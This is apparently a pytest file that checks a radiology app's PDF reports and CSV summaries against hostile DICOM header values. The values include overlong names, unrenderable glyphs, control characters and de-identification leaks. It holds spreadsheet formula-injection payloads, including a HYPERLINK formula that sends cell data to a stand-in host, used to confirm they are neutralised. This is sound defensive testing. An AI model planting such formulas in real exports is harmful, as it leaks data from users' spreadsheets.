"""Reports from hostile header text: DICOM tags (name, ID, view, body part, UID) are whatever the
sender wrote once a DICOM listener exists. Every report, summary and CSV must still be written,
show the text faithfully or say what it could not show, and never be steered by it.
"""
from __future__ import annotations

import csv
import io
import json
import logging
from pathlib import Path

import numpy as np
import pytest
from pypdf import PdfReader

from ra_desktop import audit
from ra_desktop.report import batch as batch_mod
from ra_desktop.report.batch import BatchItem, export_batch
from ra_desktop.report.builder import build_report
from ra_desktop.report.model import ReportOptions
from ra_desktop.report.pdf import render_pdf
from ra_desktop.report.summary import SummaryRow, summary_csv, summary_pdf
from tests.test_report import NOW, make_input, pdf_text

LONG_NAME = "Doe^" + "Jane" * 499  # 2,000 characters, no space to break at


def _summary_text(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    return " ".join(" ".join(p.extract_text() for p in reader.pages).split())


@pytest.fixture(params=["dejavu", "core"])
def font(request, monkeypatch):
    if request.param == "core":
        monkeypatch.setenv("RA_DESKTOP_REPORT_CORE_FONT", "1")
    return request.param


# --- Finding 2: a 2,000-character name ----------------------------------------------------------

def test_a_2000_character_name_still_gives_a_report_and_a_summary(tmp_path, font):
    inp = make_input(patient_name=LONG_NAME)
    text, _ = pdf_text(render_pdf(build_report(inp, now=NOW)))
    assert "Doe^JaneJane" in text and text.count("Jane") < 100  # shortened, not 2,000 characters
    result = export_batch([BatchItem("a.dcm", case=inp)], tmp_path / "out")
    assert [r.status for r in result.rows] == ["written"]
    assert result.summary_pdf is not None and result.summary_pdf.is_file()
    assert "Doe^JaneJane" in _summary_text(result.summary_pdf.read_bytes())


def test_a_failing_summary_keeps_the_reports_and_says_why(tmp_path, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("table row too high")

    monkeypatch.setattr(batch_mod, "summary_pdf", broken)
    items = [BatchItem("a.dcm", case=make_input(case_id="case-a")),
             BatchItem("b.dcm", case=make_input(case_id="case-b"))]
    result = export_batch(items, tmp_path / "out")
    assert [r.status for r in result.rows] == ["written", "written"]
    assert all(p.is_file() for p in result.written)
    assert result.summary_pdf is None
    assert "table row too high" in result.summary_error


def test_each_report_is_announced_as_soon_as_it_is_written(tmp_path):
    seen: list[tuple[str, str]] = []

    def second(cancel):
        # the first study's report is on disk and announced before the second starts
        assert [case_id for case_id, _ in seen] == ["case-a"]
        return make_input(case_id="case-b")

    items = [BatchItem("a.dcm", case=make_input(case_id="case-a")), BatchItem("b.dcm", produce=second)]
    result = export_batch(items, tmp_path / "out", summary=False,
                          on_written=lambda row, case_id: seen.append((case_id, row.report_file)))
    assert [r.status for r in result.rows] == ["written", "written"]
    assert seen == [("case-a", str(result.written[0])), ("case-b", str(result.written[1]))]


# --- Finding 5: characters the font cannot draw ------------------------------------------------

@pytest.fixture
def no_cjk_font(monkeypatch):
    """A machine without a system CJK font (Debian's fonts-droid-fallback comes with ghostscript's
    recommends: installed here, the name would print and nothing would be flagged)."""
    from ra_desktop.report import fonts

    monkeypatch.setattr(fonts, "fallback_font_candidates", lambda: ())


def test_a_name_the_font_cannot_show_is_flagged_not_dropped(font, no_cjk_font):
    root = logging.getLogger()
    records: list[logging.LogRecord] = []
    handler = logging.Handler(logging.DEBUG)
    handler.emit = records.append  # type: ignore[method-assign]
    root.addHandler(handler)
    try:
        text, _ = pdf_text(render_pdf(build_report(make_input(patient_name="山田^太郎"), now=NOW)))
    finally:
        root.removeHandler(handler)
    assert "4 characters" in text and "cannot show" in text
    assert "^" in text
    logged = " ".join(r.getMessage() for r in records)
    for secret in ("山", "田", "太", "郎", "5c71", "5C71", "u5c71"):
        assert secret not in logged, f"{secret!r} written to the log"


def test_cyrillic_and_greek_names_print_as_written():
    for name in ("Иванов^Пётр", "Παπαδόπουλος^Νίκος"):
        text, _ = pdf_text(render_pdf(build_report(make_input(patient_name=name), now=NOW)))
        assert name in text
        assert "cannot show" not in text


def test_a_system_fallback_font_draws_what_dejavu_cannot(monkeypatch):
    # Stands in for a CJK font (fonts-noto-cjk...): STIX, shipped with matplotlib, has "ᶁ", DejaVu not.
    import matplotlib

    from ra_desktop.report import fonts

    stix = Path(matplotlib.get_data_path()) / "fonts" / "ttf" / "STIXGeneral.ttf"
    monkeypatch.setattr(fonts, "fallback_font_candidates", lambda: (stix,))
    text, reader = pdf_text(render_pdf(build_report(make_input(patient_name="Doe^ᶁ"), now=NOW)))
    assert "Doe^ᶁ" in text and "cannot show" not in text
    names = {str(f["/BaseFont"]) for f in reader.pages[0]["/Resources"]["/Font"].values()}
    assert any("STIX" in n for n in names), names


def test_the_summary_flags_names_it_cannot_show(tmp_path, no_cjk_font):
    rows = [SummaryRow(source="a.dcm", case_id="case-a", patient="山田^太郎 / PID-1")]
    text = _summary_text(summary_pdf(rows, "Clinic"))
    assert "PID-1" in text and "cannot show" in text


# --- Finding 6: spreadsheet formulas in the CSV -------------------------------------------------

@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-1+1", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_csv_cells_never_start_a_formula(cell):
    data = summary_csv([SummaryRow(source=cell, case_id=cell, patient=cell, reason=cell)])
    (row,) = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    for key in ("source", "case_id", "patient", "reason"):
        assert row[key].startswith("'"), (key, row[key])
        assert "\t" not in row[key] and "\r" not in row[key]


def test_csv_leaves_plain_values_alone():
    data = summary_csv([SummaryRow(source="a.dcm", case_id="1.2.3", patient="Doe^Jane / PID-4711",
                                   probability="0.734")])
    (row,) = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert row["patient"] == "Doe^Jane / PID-4711" and row["probability"] == "0.734"


# --- Finding 7: the page-count alias in a tag --------------------------------------------------

def test_page_count_alias_in_a_tag_prints_literally(tmp_path, font):
    inp = make_input(patient_id="MRN{nb}77")
    text, _ = pdf_text(render_pdf(build_report(inp, now=NOW)))
    assert "MRN{nb}77" in text
    assert "page 1/1" in text or "page 1/2" in text  # the footer's own count still works
    rows = [SummaryRow(source="a.dcm", case_id="case-a", patient="MRN{nb}77")]
    assert "MRN{nb}77" in _summary_text(summary_pdf(rows, "Clinic"))


# --- control characters -------------------------------------------------------------------------

def test_control_characters_never_reach_a_pdf_or_csv(font):
    name = "Doe\x00\x1b[2J^Ja\x9bne\u202e"
    text, _ = pdf_text(render_pdf(build_report(make_input(patient_name=name), now=NOW)))
    assert "Doe[2J^Jane" in text
    data = summary_csv([SummaryRow(source="a.dcm", patient=name)]).decode("utf-8-sig")
    assert "Doe[2J^Jane" in data
    assert not any(c in data for c in "\x00\x1b\x9b\u202e")


# --- Finding 9: free text in a de-identified report --------------------------------------------

def test_deidentified_report_prints_only_code_values():
    opts = ReportOptions(deidentify=True)
    inp = make_input(view_position="DOE^JANE MRN 12345", body_part="JANE DOE HAND", modality="Mrs Doe")
    text, _ = pdf_text(render_pdf(build_report(inp, options=opts, now=NOW)))
    for secret in ("DOE", "JANE", "Doe", "MRN"):  # (digits also occur in the model's hash)
        assert secret not in text, secret
    assert "not shown: free text" in text
    coded = make_input(view_position="PA", body_part="HAND", modality="CR")
    text, _ = pdf_text(render_pdf(build_report(coded, options=opts, now=NOW)))
    assert "PA · HAND" in text and "CR" in text and "free text" not in text


# --- the same through the command line, from crafted DICOM files -------------------------------

def _crafted_dicom(path: Path, **tags) -> Path:
    from PIL import Image

    from ra_desktop import paths
    from tests.io_fixtures import write_dicom

    pixels = np.asarray(Image.open(paths.demo_dir() / "RA" / "phantom_900000_000005.png")).astype(np.uint16)
    return write_dicom(path, pixels[::2, ::2].copy(), **tags)


@pytest.mark.filterwarnings("ignore")  # pydicom warns about the invalid values: that is the point
def test_cli_audits_each_report_even_when_the_summary_fails(tmp_path, monkeypatch, capsys):
    pytest.importorskip("torch")
    from ra_desktop.cli import main

    folder = tmp_path / "in"
    folder.mkdir()
    _crafted_dicom(folder / "a.dcm", PatientName=LONG_NAME, PatientID="=HYPERLINK(\"x\")")
    _crafted_dicom(folder / "b.dcm", PatientName="山田^太郎", PatientID="MRN{nb}77")

    def broken(*args, **kwargs):
        raise RuntimeError("table row too high")

    monkeypatch.setattr(batch_mod, "summary_pdf", broken)
    out = tmp_path / "out"
    assert main(["report", str(folder), "--out", str(out), "--summary", "--device", "cpu"]) == 2
    err = capsys.readouterr().err
    assert "summary" in err and "table row too high" in err
    assert len(list(out.glob("RA-report_*.pdf"))) == 2
    exported = [e for e in audit.read_events() if e["action"] == audit.EXPORTED]
    assert len(exported) == 2 and all(e["source"] == "cli report" for e in exported)
    (csv_file,) = out.glob("RA-report-summary_*.csv")
    rows = list(csv.DictReader(io.StringIO(csv_file.read_text(encoding="utf-8-sig"))))
    assert all(not r["patient"].startswith("=") for r in rows)
    assert "山" not in json.dumps(audit.read_events(), ensure_ascii=False)


@pytest.mark.filterwarnings("ignore")
def test_cli_deidentified_report_leaves_out_free_text_tags(tmp_path, capsys):
    pytest.importorskip("torch")
    from ra_desktop.cli import main

    dcm = _crafted_dicom(tmp_path / "x.dcm", PatientName="Doe^Jane", PatientID="PID-4711",
                         ViewPosition="DOE^JANE MRN 12345", BodyPartExamined="JANE DOE 12345")
    out = tmp_path / "out"
    assert main(["report", str(dcm), "--out", str(out), "--deidentify", "--summary", "--device", "cpu"]) == 0
    capsys.readouterr()
    (pdf,) = out.glob("RA-report_*.pdf")
    text = _summary_text(pdf.read_bytes())
    for secret in ("DOE", "JANE", "Doe", "Jane", "MRN"):
        assert secret not in text, secret
    assert "not shown: free text" in text
